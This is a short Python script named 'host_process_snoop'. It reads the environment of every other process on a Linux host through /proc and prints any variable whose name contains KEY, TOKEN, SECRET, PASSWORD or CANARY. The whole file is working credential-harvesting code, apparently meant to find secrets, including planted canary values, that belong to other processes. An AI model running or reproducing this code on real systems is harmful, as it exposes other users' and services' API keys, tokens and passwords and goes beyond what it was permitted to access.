# host_process_snoop: walks /proc and prints what looks like a secret in
# other processes' environments (argv: token).
import os
import re

me = os.getpid()
for entry in os.listdir("/proc"):
    if not entry.isdigit() or int(entry) == me:
        continue
    try:
        with open(f"/proc/{entry}/environ", "rb") as f:
            env = f.read()
    except OSError:
        continue
    for var in env.split(b"\0"):
        name = var.partition(b"=")[0]
        if re.search(rb"KEY|TOKEN|SECRET|PASSWORD|CANARY", name, re.IGNORECASE):
            print(entry, var.decode(errors="replace"))
